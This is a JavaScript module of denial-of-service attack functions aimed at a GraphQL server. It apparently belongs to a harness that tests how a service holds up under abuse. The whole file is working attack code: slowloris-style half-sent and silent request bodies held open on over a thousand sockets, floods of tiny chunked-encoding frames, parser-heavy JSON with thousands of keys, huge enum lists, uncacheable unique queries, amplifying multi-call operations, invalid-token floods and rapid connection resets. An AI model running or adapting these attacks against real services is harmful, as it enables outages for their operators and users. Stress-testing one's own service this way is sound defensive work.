/* The attacks of the table, each without end; attacker.mjs ends them. `target` has url, port, authorization and count. */
import { client, head, keepOpen, open, pace } from './wire.mjs';

const BODY_BYTES = 256 * 1_024;
/** So many bytes a connection, in chunks of one. */
const TINY_CHUNKS = '1\r\nx\r\n'.repeat(10_000);

/**
 * Ten connections, ten a second: each is refused after its first read of 64 KB, for which Node's parser takes some 15 ms.
 * That is as much for a byte as ordinary small requests take, so more of it is a matter of bandwidth.
 */
function sendTinyChunks(target, path) {
  return keepOpen({
    target,
    number: 10,
    perSecond: 10,
    use(socket) {
      socket.write(head({ path, headers: ['Transfer-Encoding: chunked'] }));
      let left = 26;
      const more = () => {
        if (left > 0 && socket.writable) {
          left -= 1;
          if (socket.write(TINY_CHUNKS)) setImmediate(more);
          else socket.once('drain', more);
        }
      };
      more();
    },
  });
}

export const tinyChunks = (target) => sendTinyChunks(target, '/graphql');
export const tinyChunksToNowhere = (target) => sendTinyChunks(target, '/nope');

/** The same with a token that is valid: what is refused is the framing. */
export const tinyChunksWithToken = (target) =>
  keepOpen({
    target,
    number: 10,
    perSecond: 10,
    use(socket) {
      socket.write(head({ headers: ['Transfer-Encoding: chunked', `Authorization: ${target.authorization}`] }));
      socket.write(TINY_CHUNKS);
    },
  });

/** Bodies that are announced, half sent and never ended. */
export const halfSentToNowhere = (target) =>
  keepOpen({
    target,
    number: 1_500,
    use(socket) {
      socket.write(head({ path: '/nope', headers: [`Content-Length: ${BODY_BYTES}`] }));
      socket.write(Buffer.alloc(BODY_BYTES / 2, 'a'));
    },
  });

/** JSON that is expensive to parse, from nobody. */
export async function uniqueKeysWithoutToken(target) {
  const members = Array.from({ length: 20_000 }, (_, index) => `"k${index.toString(36)}":${index}`);
  const body = `{"query":"{me{id}}","variables":{${members.join()}}}`;
  const send = client({ ...target, authorization: undefined });
  await pace(50, () => send(body));
}

/** Heads and `{`, then silence. */
export const silentBodies = (target) =>
  keepOpen({
    target,
    number: 1_050,
    use: (socket) => socket.write(`${head({ headers: ['Content-Length: 100'] })}{`),
  });

/** The same with a token that is valid. */
export const silentBodiesWithToken = (target) =>
  keepOpen({
    target,
    number: 1_050,
    use: (socket) =>
      socket.write(`${head({ headers: ['Content-Length: 100', `Authorization: ${target.authorization}`] })}{`),
  });

/** A list in the variables for which a compiler would make one error for each member. */
export async function hugeEnumList(target) {
  const query = 'query L($f: CouponFilter) { me { coupons(filter: $f) { code } } }';
  const body = `${JSON.stringify({ query }).slice(0, -1)},"variables":{"f":{"couponTypes":[${'1,'.repeat(129_999)}1]}}}`;
  const send = client(target);
  await pace(50, () => send(body));
}

/** Documents of which no two are alike, refused only by validation. */
export async function newDocuments(target) {
  const send = client(target);
  await pace(50, (number) => {
    const fields = Array.from({ length: 240 }, (_, index) => `f${index}_${number}`).join(' ');
    return send({ query: `{ me { id attributes { displayName } ${fields} } }` });
  });
}

/** Documents of which no two are alike, all valid. */
export async function newValidDocuments(target) {
  const send = client(target);
  await pace(50, (number) => {
    const fields = Array.from(
      { length: 28 },
      (_, index) => `a${index}x${number}: attributes { displayName firstName email }`,
    );
    return send({ query: `query N${number} { me { id ${fields.join(' ')} } }` });
  });
}

/** One known operation close to the limit of complexity. */
export async function largeOperation(target) {
  const friend = '__typename playerUniqueId displayName email mobileNumber joinDate status';
  const pages = Array.from(
    { length: 15 },
    (_, page) => `p${page}: referredFriends(page: ${page + 1}, limit: 200) { nodes { ${friend} } }`,
  );
  const query = `query Large { me { ${pages.join(' ')} } }`;
  const send = client(target);
  await pace(50, () => send({ query }));
}

/** 32 REST calls in one operation. */
export async function manyCalls(target) {
  const languages = [
    'ar',
    'da',
    'de',
    'el',
    'en',
    'es',
    'fi',
    'fr',
    'he',
    'hi',
    'hu',
    'id',
    'it',
    'ja',
    'ko',
    'nb',
    'nl',
    'pl',
    'pt',
    'ro',
  ];
  const players = languages.slice(0, 19).map((lang) => `l${lang}: me(lang: "${lang}") { referralLink }`);
  const pages = Array.from(
    { length: 10 },
    (_, page) => `p${page}: referredFriends(page: ${1 + page * 40}, limit: 3) { total }`,
  );
  const query = `query Calls { ${players.join(' ')} me { ${pages.join(' ')} } }`;
  const send = client(target, 200);
  await pace(50, () => send({ query }));
}

/** Tokens that are not valid, from the address of the victim. */
export async function badTokens(target) {
  const send = client({ ...target, authorization: undefined });
  await pace(100, (number) =>
    send('{"query":"{me{id}}"}', { authorization: `Bearer ${'x'.repeat(40)}.${number}.bad` }),
  );
}

/** A client that resets its connection as soon as it has asked. */
export async function resets(target) {
  await pace(200, (number) => {
    const socket = open(target);
    socket.once('connect', () => {
      const body = JSON.stringify({
        query: `query R($id: ID!) { player(playerUniqueId: $id) { id } }`,
        variables: { id: `r${number}` },
      });
      const headers = [
        `Authorization: ${target.authorization}`,
        `Content-Length: ${body.length + (number % 4 === 0 ? 10 : 0)}`,
      ];
      socket.write(head({ headers }) + body);
      setTimeout(() => socket.resetAndDestroy(), number % 3);
    });
  });
}
